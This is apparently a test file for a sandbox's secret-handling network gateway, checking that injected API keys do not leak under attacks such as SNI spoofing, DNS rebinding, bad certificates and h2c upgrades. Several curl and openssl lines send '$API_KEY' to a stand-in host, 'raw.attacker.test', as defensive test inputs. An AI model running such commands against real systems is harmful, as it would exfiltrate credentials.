import "../../../internet/namespace.ts";
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { randomBytes } from "node:crypto";
import { once } from "node:events";
import { dirname, join } from "node:path";
import { after, before, test } from "node:test";
import type { NetworkLogEvent, Sandbox } from "../../../../src/index.ts";
import { addressRecord, response, types as recordTypes } from "../../../internet/dns-message.ts";
import { places } from "../../../internet/places.ts";
import {
  badIdentities,
  badKinds,
  goodIdentity,
  type BadKind,
} from "../../../internet/tls/bad-certificates.ts";
import { Recorder } from "../../../internet/tls/recorder.ts";
import { processOf } from "../../lifecycle-support.ts";
import type { Needs } from "../../tags.ts";
import { furnish, onTheInternet, said, useInternet } from "../network-support.ts";
import { attackRows, hostOf, partsOf, placeholder } from "./attack-rows.ts";
import { LeakHunt } from "./leak-hunt.ts";

export const needs: Needs = ["running", "internet"];

// What root in the guest does to get at a secret, told by what servers hear; and in the end, a search for it everywhere.

const timeout = 300_000;
/** In all values, and in nothing else. */
const mark = randomBytes(24).toString("hex");
const value = `sk-${mark}-a`;
const scrubbed = `tk-${mark}-b`;
const { home, internet } = await useInternet();
/** What is older, such as the image, was made when nobody but this process knew the values. */
const began = Date.now();
const { certificates, resolver } = internet;
const port = 8443;
const recorder = await Recorder.start(await goodIdentity(certificates), port);
const bad = new Map<BadKind, Recorder>();
for (const [kind, identity] of await badIdentities(dirname(certificates.caFile), certificates))
  bad.set(kind, await Recorder.start(identity));
/** Without TLS: what is asked for, and one answer that has what it was sent. */
const plainHeads: string[] = [];
const plainAddresses: (string | undefined)[] = [];
const plain = createServer((request, response) => {
  plainAddresses.push(request.socket.localAddress);
  plainHeads.push(`${request.method} ${request.url} ${request.rawHeaders.join(" ")}`);
  response.end(`you said ${request.headers["x-token"]?.toString() ?? "nothing"}\n`);
});
plain.listen(8080, "::");
await once(plain, "listening");
const badPort = (kind: BadKind): number => bad.get(kind)?.port ?? 0;
let sandbox: Sandbox;

before(async () => {
  for (const row of attackRows) if (row.to === "wrong") resolver.host(hostOf(row), places.other4);
  sandbox = await onTheInternet("attacked")
    .network((n) =>
      n
        .tls((t) =>
          t
            .interceptedPorts([443, port, ...badKinds.map((kind) => badPort(kind))])
            .upstreamCaCert(certificates.caFile),
        )
        .secret((s) => s.env("API_KEY").value(value).allowHostPattern("*.example.com"))
        .secret((s) =>
          s
            .env("TOKEN")
            .value(scrubbed)
            .allow("plain.example.com")
            .requireTlsIdentity(false)
            .scrubResponses(),
        ),
    )
    .create();
  await furnish(sandbox, internet, "raw-tls.py");
});
after(async () => {
  for (const one of [recorder, ...bad.values()]) await one[Symbol.asyncDispose]();
  plain.closeAllConnections();
  plain.close();
});

let read = 0;
/** What the log says that it has not said before. */
async function newEvents(): Promise<NetworkLogEvent[]> {
  const all: NetworkLogEvent[] = [];
  for await (const event of sandbox.networkEvents()) all.push(event);
  return all.slice(read, (read = all.length));
}

test("what is said inside of TLS, byte by byte", { timeout }, async (t) => {
  const rows = attackRows.map((row) => ({
    name: row.name,
    host: hostOf(row),
    port,
    parts: partsOf(row, port).map((part) => part.toString("base64")),
    answers: row.hears === "neither" ? 1000 : 1,
  }));
  await sandbox.fs().write("/tmp/rows.json", JSON.stringify(rows));
  const out = await said(sandbox, "python3 /tmp/raw-tls.py < /tmp/rows.json 2>&1");
  const heard = new Map<string, string>();
  for (const { serverName, bytes } of await recorder.take())
    heard.set(serverName, (heard.get(serverName) ?? "") + bytes.toString("latin1"));
  const events = await newEvents();
  for (const row of attackRows)
    await t.test(row.name, () => {
      const text = heard.get(hostOf(row));
      // The guest's TLS begins when the server's has: what never came to be shows nothing.
      assert.ok(text !== undefined, out);
      const has = text.includes(value) || text.includes(Buffer.from(`user:${value}`).toString("base64"));
      const hears = has ? "value" : text.includes("MSB_API_KEY") ? "placeholder" : "neither";
      assert.equal(hears, row.hears, `${text}\n${out}`);
      // Nothing is heard of what was never sent, either: the log says that it was, and why it went no further.
      assert.equal(row.hears === "neither", row.form !== undefined || row.reason !== undefined);
      if (row.reason !== undefined) {
        const refused = events.flatMap((event) =>
          event.kind === "http" &&
          event.outcome === "malformed" &&
          `${event.host ?? ""} ${event.reason ?? ""}`.includes(hostOf(row))
            ? [event.reason]
            : [],
        );
        assert.deepEqual(refused, [row.reason]);
      }
      assert.doesNotMatch(text, /h2c|http2-settings|^upgrade: tls/im);
      if (row.form === undefined) return;
      const violation = events.find(
        (event) => event.kind === "secret-violation" && event.serverName === hostOf(row),
      );
      assert.equal(violation?.kind === "secret-violation" && violation.form, row.form);
    });
});

test("by openssl s_client, by curl that offers HTTP/2, without a server's name", { timeout }, async () => {
  await newEvents();
  const client = (host: string, more: string): string =>
    `openssl s_client -quiet -connect ${host}:${port} ${more} 2>&1`;
  const request = `GET / HTTP/1.1\\r\\nHost: s.example.com\\r\\nX-Key: ${placeholder}\\r\\n`;
  await said(
    sandbox,
    `printf '${request}Connection: close\\r\\n\\r\\n' | timeout 20 ${client("s.example.com", "-servername raw.attacker.test")}`,
  );
  await said(sandbox, `printf '${request}\\r\\n' | timeout 20 ${client("s.example.com", "-noservername")}`);
  const curl = await sandbox.shell(
    `curl -sS --max-time 30 --http2 -H "X: $API_KEY" https://raw.attacker.test:${port}/`,
  );
  // A stream or a connection that was broken off, in curl's numbers.
  assert.ok([16, 52, 55, 56, 92].includes(curl.code), `${curl.code} ${curl.stderr()}`);
  const heard = (await recorder.take()).map(({ bytes }) => bytes.toString("latin1")).join();
  assert.ok(!heard.includes("GET /"), heard);
  assert.ok(!heard.includes(value) && !heard.includes(placeholder), heard);
  // Each of them has come as far as the gateway, and no further.
  const told = (await newEvents()).flatMap((event) => {
    if (event.kind === "http") return [[event.outcome, event.host, event.reason].join(" ")];
    if (event.kind === "tls-failed") return [[event.kind, event.side, event.reason].join(" ")];
    return event.kind === "secret-violation"
      ? [[event.kind, event.protocol, event.serverName].join(" ")]
      : [];
  });
  assert.deepEqual(told, [
    "malformed s.example.com a connection to raw.attacker.test",
    "tls-failed guest no server name",
    "secret-violation http/1 raw.attacker.test",
  ]);
});

for (const kind of badKinds)
  test(
    `a server whose certificate is ${kind} gets no request, the client an alert, the log a line`,
    { timeout },
    async () => {
      await newEvents();
      const server = bad.get(kind);
      const host = `${kind}.example.com`;
      const curl = await sandbox.shell(
        `curl -sS --max-time 30 -H "Authorization: $API_KEY" https://${host}:${badPort(kind)}/`,
      );
      // Curl has a number of its own for the alert about an expired one.
      assert.equal(curl.code, kind === "expired" ? 60 : 35, curl.stderr());
      assert.ok((server?.connections ?? 0) > 0);
      for (const { bytes } of (await server?.take()) ?? []) assert.equal(bytes.length, 0);
      const failed = (await newEvents()).filter((event) => event.kind === "tls-failed");
      assert.deepEqual(
        failed.map(({ name, side }) => ({ name, side })),
        [{ name: host, side: "server" }],
      );
    },
  );

test(
  "a name that leads to an attacker proves nothing by TLS, and by HTTP only for the one address",
  { timeout },
  async () => {
    // The name's address is the attacker's now, who has a certificate, but none that an authority has signed.
    resolver.host("rebound.example.com", places.other4);
    const curl = await sandbox.shell(
      `curl -sS --max-time 30 -H "Authorization: $API_KEY" https://rebound.example.com:${badPort("self-signed")}/`,
    );
    assert.equal(curl.code, 35, curl.stderr());
    for (const { bytes } of (await bad.get("self-signed")?.take()) ?? []) assert.equal(bytes.length, 0);
    // An allowed Host to an address that no DNS answer gave it.
    plainHeads.length = 0;
    await newEvents();
    await said(
      sandbox,
      `curl -sS --max-time 30 --connect-to plain.example.com:8080:${places.first4}:8080 -H "X-Token: $TOKEN" http://plain.example.com:8080/ 2>&1`,
    );
    await said(sandbox, `curl -sS --max-time 30 -H "X-Key: $API_KEY" http://plain.example.com:8080/ 2>&1`);
    assert.ok(!plainHeads.join().includes(scrubbed) && !plainHeads.join().includes(value), plainHeads.join());
    const told = (await newEvents()).filter(({ kind }) => kind === "secret-violation" || kind === "http");
    // The second is for another name's secret, which has to have TLS: its placeholder goes on.
    assert.deepEqual(
      told.map(({ kind }) => kind),
      ["secret-violation", "http"],
      JSON.stringify(told),
    );
    assert.equal(plainHeads.length, 1);
    assert.ok(plainHeads[0]?.includes(placeholder), plainHeads[0]);
  },
);

test(
  "HTTP/2 without TLS is not offered to a server, and not spoken with one that takes it for offered",
  { timeout },
  async () => {
    const curl = `curl -sS --max-time 30 --http2 -H "X-Token: $TOKEN"`;
    plainHeads.length = 0;
    assert.equal(
      await said(sandbox, `${curl} -o /dev/null -w '%{http_version}' http://plain.example.com:8080/`),
      "1.1",
    );
    const switches = await internet.servers.listen(0, (socket) =>
      socket.once("data", () =>
        socket.write("HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n"),
      ),
    );
    assert.notEqual((await sandbox.shell(`${curl} http://plain.example.com:${switches}/`)).code, 0);
    const heard = internet.servers.connections
      .filter(({ port }) => port === switches)
      .map(({ received }) => Buffer.concat(received).toString("latin1"));
    assert.equal(heard.length, 1);
    for (const text of [...plainHeads, ...heard]) {
      assert.ok(text.includes(scrubbed), text);
      assert.doesNotMatch(text, /h2c|http2-settings|PRI/i);
    }
  },
);

test("what DNS says after a name was looked up leads the connection nowhere else", { timeout }, async () => {
  const answers = [places.host4];
  resolver.answer("turns.example.com", ({ message, name, type }) =>
    response(message, {
      // It is the attacker's from the second answer on.
      records: type === recordTypes.A ? [addressRecord(name, answers.shift() ?? places.other4)] : [],
    }),
  );
  plainAddresses.length = 0;
  await said(sandbox, "curl -sS -4 --max-time 30 http://turns.example.com:8080/");
  assert.deepEqual([plainAddresses, answers], [[`::ffff:${places.host4}`], []]);
});

test("an answer that repeats the value has the placeholder in its place", { timeout }, async () => {
  plainHeads.length = 0;
  const answer = await said(sandbox, `curl -sS -H "X-Token: $TOKEN" http://plain.example.com:8080/`);
  assert.ok(plainHeads.join().includes(scrubbed));
  assert.equal(answer, "you said $MSB_TOKEN");
});

test(
  "afterwards the value is in one file, and nowhere in the guest, the logs, the templates, QEMU, or what ps shows",
  { timeout },
  async () => {
    const directory = join(home, "sandboxes/attacked");
    const qemu = await processOf(home, "attacked", "qemu");
    const control = await new LeakHunt(placeholder).memory(qemu);
    assert.ok(control.found, `the placeholder is in none of ${control.searched} bytes`);
    assert.ok(control.searched > 64 << 20, `${control.searched} bytes`);
    const supervisor = await processOf(home, "attacked", "supervisor");
    const hunt = new LeakHunt(mark);
    assert.ok((await hunt.memory(supervisor)).found, "not even where it has to be");
    assert.equal((await hunt.memory(qemu)).found, false, "in the guest's memory, or in QEMU's");
    const kept = [join(directory, "secrets.json")];
    assert.deepEqual(await hunt.files(home, { since: began }), kept);
    assert.deepEqual(await hunt.files(join(home, "templates"), { since: began }), []);
    assert.deepEqual(await hunt.processes(), []);
    const told = await new LeakHunt(placeholder).files(directory);
    assert.ok(
      told.some((path) => path.endsWith("network.log")),
      told.join(),
    );
    await sandbox.stop();
    assert.deepEqual(await hunt.files(home, { since: began }), kept);
  },
);
